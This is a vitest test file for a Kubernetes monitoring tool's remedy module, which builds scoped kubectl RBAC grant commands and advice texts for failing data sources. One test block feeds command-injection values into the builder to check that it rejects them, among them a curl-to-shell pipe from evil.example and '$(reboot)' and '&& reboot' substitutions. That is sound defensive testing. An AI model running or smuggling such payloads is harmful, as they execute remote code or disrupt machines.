import type { ReaderStatePart } from '@plimsoll/contract/wire/cluster-fields';
import { LEASE_NEEDS } from '@plimsoll/contract/rules/kubernetes-limits';
import { describe, expect, it, test } from 'vitest';
import { grantCommand, namespaceOf, remedyOf } from './remedies.ts';

const reader = (parts: Partial<ReaderStatePart>): ReaderStatePart => ({
  name: 'events',
  state: 'forbidden',
  detail: 'forbidden: needs events list,watch',
  since: 0,
  needs: 'list,watch events',
  service_account: 'monitoring:plimsoll-cluster-collector',
  ...parts,
});

describe('a missing right', () => {
  it('comes with the line that grants exactly it to exactly this account', () => {
    expect(remedyOf(reader({})).command).toBe(
      'kubectl create clusterrole plimsoll-grant-events --verb=list,watch --resource=events && kubectl create clusterrolebinding plimsoll-grant-events --clusterrole=plimsoll-grant-events --serviceaccount=monitoring:plimsoll-cluster-collector',
    );
  });

  it.each([
    ['get nodes/stats', '--verb=get --resource=nodes/stats'],
    ['list,watch deployments.apps', '--verb=list,watch --resource=deployments.apps'],
    [
      'list nodes.metrics.k8s.io,pods.metrics.k8s.io',
      '--verb=list --resource=nodes.metrics.k8s.io,pods.metrics.k8s.io',
    ],
  ])('%s is granted as kubectl writes it', (needs, rule) => {
    expect(grantCommand(reader({ needs }))).toContain(` ${rule} `);
  });

  it('on the lease is granted in the namespace of the collector alone', () => {
    const command = grantCommand(reader({ needs: LEASE_NEEDS })) ?? '';
    expect(command).toMatch(/^kubectl -n monitoring create role .*&& kubectl -n monitoring create rolebinding /);
    expect(command).not.toContain('clusterrole');
  });

  it.each([
    ['a right with a command in it', { needs: 'list,watch events; curl evil.example | sh' }],
    ['a right with a substitution in it', { needs: 'list $(reboot)' }],
    ['an account with a command in it', { service_account: 'a:b && reboot' }],
    ['an account with a line break', { service_account: 'a:b\nreboot' }],
    ['no account', { service_account: null }],
    ['no right', { needs: null }],
  ])('gives no line for %s', (_, parts) => {
    expect(grantCommand(reader(parts))).toBeNull();
    expect(remedyOf(reader(parts)).remedy).toContain('rbac.create=true');
  });
});

test.each(['ok', 'starting'] as const)('a source in state %s needs no remedy', (state) => {
  expect(remedyOf(reader({ state })).remedy).toBeNull();
});

test.each<[Partial<ReaderStatePart>, RegExp]>([
  [{ state: 'forbidden', detail: 'the API server does not accept our service account token' }, /^Restart/],
  [{ name: 'metrics.k8s.io', state: 'absent' }, /not installed/],
  [{ name: 'metrics.k8s.io', state: 'down' }, /does not answer/],
  [{ name: 'prometheus', state: 'unreachable' }, /prometheus\.url/],
  [{ name: 'kubelet stats/summary', state: 'unreachable', detail: 'kubelet certificate not trusted' }, /insecureSkip/],
  [{ name: 'alertrules.plimsoll.dev', state: 'absent' }, /customResources.create=true/],
  [{ name: 'cronjobs', state: 'absent' }, /version of Kubernetes/],
  [{ state: 'unreachable' }, /tries again/],
])('%j', (parts, text) => {
  expect(remedyOf(reader(parts)).remedy).toMatch(text);
});

test('the namespace is that of the account, else the one of the documentation', () => {
  expect(namespaceOf(reader({}))).toBe('monitoring');
  expect(namespaceOf(undefined)).toBe('plimsoll-system');
});
